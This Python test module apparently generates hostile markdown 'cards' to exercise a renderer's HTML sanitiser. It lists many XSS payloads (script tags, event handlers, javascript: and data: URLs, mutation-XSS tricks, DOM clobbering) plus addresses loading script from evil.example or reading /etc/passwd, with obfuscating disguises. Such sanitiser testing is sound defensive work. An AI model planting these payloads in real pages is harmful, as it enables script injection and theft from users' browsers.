"""Cards that try to run script in a reader's browser: vectors, places, disguises."""

# ruff: noqa: E501 - a vector is one line
from __future__ import annotations

import random

#: HTML that runs alert(1) in a browser, if it gets there
HTML = r"""
<script>alert(1)</script>
<script src="data:text/javascript,alert(1)"></script>
<script/x>alert(1)</script >
<svg><script>alert(1)</script></svg>
<svg><script href="data:text/javascript,alert(1)"/></svg>
<svg onload=alert(1)>
<svg/onload=alert(1)//
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><set attributeName=href to="javascript:alert(1)"/><a><text x=9 y=9>x</text></a></svg>
<svg><a xlink:href="javascript:alert(1)"><text x=9 y=9>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=alert(1) /></svg>#x"/>
<svg><foreignObject><iframe srcdoc="<script>parent.alert(1)</script>"></iframe></foreignObject></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<math><a xlink:href="javascript:alert(1)">x</a></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;"></table></mtext></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<img src=x onerror=alert(1)>
<img src=x:x onerror="alert(1)">
<img/src=x/onerror=alert(1)>
<img src="x" alt="a" title="b" onerror='alert(1)' />
<image src=x onerror=alert(1)>
<img srcset=x onerror=alert(1)>
<body onload=alert(1)>
<body onpageshow=alert(1)>
<input autofocus onfocus=alert(1)>
<textarea autofocus onfocus=alert(1)></textarea>
<select autofocus onfocus=alert(1)></select>
<button onclick=alert(1)>x</button>
<button popovertarget=x>x</button><p popover id=x onbeforetoggle=alert(1)>x</p>
<details open ontoggle=alert(1)><summary>x</summary>y</details>
<details><summary onclick=alert(1)>x</summary></details>
<video src=x onerror=alert(1)></video>
<video><source onerror=alert(1) src=x></video>
<audio src=x onerror=alert(1)></audio>
<marquee onstart=alert(1)>x</marquee>
<iframe src="javascript:parent.alert(1)"></iframe>
<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>
<object data="javascript:parent.alert(1)"></object>
<embed src="javascript:parent.alert(1)">
<form action="javascript:alert(1)"><button>x</button></form>
<form id=x></form><button form=x formaction="javascript:alert(1)">x</button>
<isindex action="javascript:alert(1)" type=submit value=x>
<a href="javascript:alert(1)">x</a>
<a href=javascript:alert(1)>x</a>
<a href=" &#14; javascript:alert(1)">x</a>
<a href="java&#10;script:alert(1)">x</a>
<a href="java&Tab;script&colon;alert(1)">x</a>
<a href="&#x6A;avascript&#0000058;alert(1)">x</a>
<a href="javascript&colon;alert&lpar;1&rpar;">x</a>
<a href="data:text/html,<script>parent.alert(1)</script>" target=_self>x</a>
<a href="vbscript:alert(1)">x</a>
<a href="//x" onclick=alert(1)>x</a>
<a href=x onmouseover=alert(1) style=display:block>x</a>
<a href="x" ping="javascript:alert(1)" download>x</a>
<a href="javascript:123" id=x name=location>x</a>
<area href="javascript:alert(1)" shape=default><map name=x></map>
<base href="javascript:/a/-alert(1)//"><a href="/x">x</a>
<base href="https://evil.example/"><script src=x.js></script>
<link rel=stylesheet href="data:text/css,*{}" onload=alert(1)>
<link rel=import href="data:text/html,<script>alert(1)</script>">
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<style onload=alert(1)></style>
<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=alert(1)>x</p>
<style>*{background:url("javascript:alert(1)")}</style>
<p style="width:expression(alert(1))" onclick=alert(1)>x</p>
<p tabindex=1 onfocus=alert(1) autofocus>x</p>
<p contenteditable oninput=alert(1)>x</p>
<p id=x tabindex=1 onkeydown=alert(1) accesskey=x>x</p>
<xss onclick=alert(1) onmouseover=alert(1) tabindex=1>x</xss>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<noembed><img src="</noembed><iframe onload=alert(1)>"></noembed>
<template><script>alert(1)</script></template>
<title><img src="</title><img src=x onerror=alert(1)>"></title>
<textarea><img src="</textarea><img src=x onerror=alert(1)>"></textarea>
<xmp><img src="</xmp><img src=x onerror=alert(1)>"></xmp>
<plaintext><img src=x onerror=alert(1)>
<!--><img src=x onerror=alert(1)>-->
<!-- --!><img src=x onerror=alert(1)> -->
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<![CDATA[<img src=x onerror=alert(1)>]]>
<?xml version="1.0"?><img src=x onerror=alert(1)>
<!DOCTYPE x [<!ENTITY x "<img src=x onerror=alert(1)>">]>&x;
<table background="javascript:alert(1)"><td onclick=alert(1)>x</table>
<table><tr><td><svg><desc><table><img src=x onerror=alert(1)></table></desc></svg></table>
<p title="`"><img src=x onerror=alert(1)>`">
<b a="'><img src=x onerror=alert(1)>"'>x</b>
<<img src=x onerror=alert(1)>>
<img src="x` `<script>alert(1)</script>"` `>
<scr<script>ipt>alert(1)</scr</script>ipt>
<a><em><b><i><p><a><em><table><a><img src=x onerror=alert(1)></table>
<form><input name=attributes><input name=innerHTML></form>
<form name=body><input id=attributes></form><img name=getElementById>
<a id=main name=main href="cid:x">x</a><a id=documentElement></a><a id=__proto__></a>
<img name=cookie><iframe name=alert></iframe><object id=said></object>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;img src=x onerror=alert(1)&#62;
&amp;lt;script&amp;gt;alert(1)
""".strip().split("\n")

#: addresses that run alert(1), or would in some browser or after some decoding
ADDRESSES = r"""
javascript:alert(1)
JaVaScRiPt:alert(1)
javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>*/alert(1)
javascript://%0aalert(1)
javascript:alert`1`
javascript:123
javascript&colon;alert(1)
javascript&#58;alert(1)
javascript&#x3A;alert(1)
java&Tab;script:alert(1)
java&NewLine;script:alert(1)
&#x01;javascript:alert(1)
&#32;javascript:alert(1)
&nbsp;javascript:alert(1)
\javascript:alert(1)
java\script:alert(1)
./javascript:alert(1)
x:javascript:alert(1)
data:text/html,<script>alert(1)</script>
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
data:image/svg+xml,<svg/onload=alert(1)>
data:1
blob:1
vbscript:alert(1)
vbscript:9
view-source:javascript:alert(1)
feed:javascript:alert(1)
jar:javascript:alert(1)!/
livescript:alert(1)
mocha:alert(1)
file:///etc/passwd
filesystem:http://x/y
//evil.example/x.js
\\evil.example\x
https:javascript:alert(1)
http://x/"onmouseover="alert(1)
http://x/'onmouseover='alert(1)
http://x/><script>alert(1)</script>
http://x" onclick="alert(1)
https://outside.example/pixel.png
?x=javascript:alert(1)
#javascript:alert(1)
""".strip().split("\n")

#: where HTML may stand in a card
PLACES = [
    "{}",
    "before {} after",
    "\n\n{}\n\n",
    "# {}",
    "{}\n====",
    "## Head {{#id}} {}",
    "> > {}",
    "- a\n- {}\n    1. {}",
    "| a | b |\n|---|:-:|\n| {} | x |",
    "| {} |\n|---|\n| x |",
    "Term\n:   {}",
    "[^n]\n\n[^n]: {}",
    "*[HT]: {}\n\nHT and HT",
    "[{}](x)",
    "[x](y '{}')",
    '[x](y "{}")',
    "![{}](x)",
    '![x](x "{}")',
    "[x][r]\n\n[r]: y '{}'",
    "[{}]\n\n[{}]: y",
    "*{}* **{}** `x` ~~{}~~",
    "`{}`",
    "``` {}\nx\n```",
    "```html\n{}\n```",
    "~~~\n{}",
    "    {}",
    "<div>{}</div>",
    "<div markdown=1>\n\n{}\n\n</div>",
    "<details><summary>{}</summary>\n\n{}\n\n</details>",
    '<p title="{}">x</p>',
    "<p title='{}'>x</p>",
    "<p title={}>x</p>",
    "<a href='{}'>x</a>",
    '<img alt="{}" src="{}">',
    "<pre><code class='language-{}'>{}</code></pre>",
    "<table><tr><td>{}</table>",
    "<ul><li>{}<li>{}</ul>",
    "<!-- {} -->",
    "<!-- x --{}>",
    "<b {}>x</b>",
    "<{}>",
    "&{};",
    "\\{}",
    "1. {}\n\n   ```\n   {}",
    "{}\n\n[TOC]\n\n# {}",
    "<script>{}",
    "</div></section>{}",
]
#: where an address may stand
LINKS = [
    "[x]({})",
    "[x](<{}>)",
    "[x]({} 'title')",
    "![x]({})",
    "[![x]({})]({})",
    "<{}>",
    "[x][r]\n\n[r]: {}",
    "[x][r]\n\n[r]: <{}> (t)",
    "[x]\n\n[x]: {}",
    '<a href="{}">x</a>',
    "<a href='{}'>x</a>",
    "<a href={}>x</a>",
    "<a HREF = {} x>x</a>",
    "<a\nhref\n=\n'{}'>x</a>",
    '<img src="{}">',
    "<img src={} alt=x>",
    '<blockquote cite="{}">x</blockquote>',
    '<q cite="{}">x</q><del cite={}>x</del>',
    "| [x]({}) |\n|---|\n| <{}> |",
    "# [x]({})",
    "[^n]\n\n[^n]: [x]({})",
    '<a href="#" xlink:href="{}" data-href="{}">x</a>',
    '<form action="{}"><button formaction="{}">x</button></form>',
    '<iframe src="{}"></iframe><object data="{}"></object><embed src="{}">',
    '<video poster="{}"><source src="{}"></video><body background="{}">',
]


def _controls(text: str, draw: random.Random) -> str:
    at = draw.randrange(len(text))
    return text[:at] + draw.choice(CONTROLS) + text[at:]


def _broken(text: str, draw: random.Random) -> str:
    at = draw.randrange(len(text))
    return text[:at] + draw.choice(["\n", "\t", "\r", "\r\n", "\n\n", " "]) + text[at:]


def _entities(text: str, draw: random.Random) -> str:
    forms = ["&#{};", "&#x{:x};", "&#{:07d};", "&#{}"]
    return "".join(
        draw.choice(forms).format(ord(c)) if draw.random() < 0.2 else c for c in text
    )


def _escaped(text: str, draw: random.Random) -> str:
    return "".join(
        "\\" + c if c in "<>:()" and draw.random() < 0.3 else c for c in text
    )


CONTROLS = "\x00\x01\x08\x0b\x0c\x1f\x7f\xad\u200b\u202e\ufeff"

#: how a vector may be disguised
DISGUISES = [
    lambda text, _draw: text,
    lambda text, _draw: text.swapcase(),
    lambda text, _draw: text + text,
    lambda text, _draw: text[:-1],
    lambda text, _draw: text.replace("script", "scr<!-- -->ipt"),
    lambda text, _draw: text.replace(" ", "/"),
    lambda text, _draw: text.replace("=", " = ").replace("<", "<\n", 1),
    lambda text, _draw: text.replace("<", "&lt;").replace("&lt;", "<", 1),
    lambda text, _draw: text.replace("s", "\u017f").replace("<", "\uff1c", 1),
    lambda text, _draw: text.replace("(", "&#40;").replace(")", "&#41;"),
    _controls,
    _broken,
    _entities,
    _escaped,
]


def hostile_cards(count: int, seed: int = 2024) -> list[str]:
    """Make cards: each a vector in a place, some disguised, some within others."""
    draw = random.Random(seed)  # noqa: S311 - the same cards every time
    cards = []
    for _ in range(count):
        vectors, places = (HTML, PLACES) if draw.random() < 0.65 else (ADDRESSES, LINKS)
        card = draw.choice(DISGUISES)(draw.choice(vectors), draw)
        for _level in range(draw.choice([1, 1, 1, 2, 3])):
            place = draw.choice(places)
            card = place.replace("{{", "{").replace("}}", "}").replace("{}", card)
            places = PLACES
        cards.append(card)
    return cards
